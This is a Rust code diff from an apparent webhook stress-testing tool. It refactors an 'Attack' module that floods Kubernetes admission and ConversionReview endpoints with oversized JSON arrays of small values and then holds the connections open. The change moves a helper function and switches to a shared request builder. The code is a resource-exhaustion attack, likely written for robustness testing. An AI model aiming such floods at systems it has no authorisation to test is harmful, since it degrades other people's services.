@@ -1,7 +1,7 @@
 //! Sends reviews with very many small values.
 
-use super::{Attack, LARGEST};
-use crate::{aim::Aim, target::Target};
+use super::{Attack, LARGEST, conversion};
+use crate::{aim::Aim, requests::Requests, target::Target};
 use anyhow::Result;
 use futures::FutureExt as _;
 use tokio::io::AsyncWriteExt;
@@ -23,8 +23,7 @@ async fn once(aim: Aim) -> Result<()> {
     let values = (fastrand::usize(LARGEST / 2..LARGEST - 1024) >> fastrand::u32(..9)) / (value.len() + 1);
     let list = format!("[{value}{}]", format!(",{value}").repeat(values));
     let body = if is_conversion { conversion(&list) } else { review(field, &list) };
-    let head = format!("{post}connection: close\r\ncontent-length: {}\r\n\r\n", body.len());
-    stream.write_all(format!("{head}{body}").as_bytes()).await?;
+    stream.write_all(Requests::with_body(&post, &body).as_bytes()).await?;
     aim.hold(stream).await;
     Ok(())
 }
@@ -42,13 +41,6 @@ const REVIEWED: [(&str, &str); 8] = [
     ("metadata.ownerReferences", "{}"),
     ("metadata.managedFields", "{}"),
 ];
-
-fn conversion(list: &str) -> String {
-    format!(
-        "{{\"apiVersion\":\"apiextensions.k8s.io/v1\",\"kind\":\"ConversionReview\",\
-         \"request\":{{\"uid\":\"a\",\"desiredAPIVersion\":\"a/v1\",\"objects\":{list}}}}}"
-    )
-}
 
 fn review(field: &str, list: &str) -> String {
     let (part, field) = field.split_once('.').unwrap_or_default();
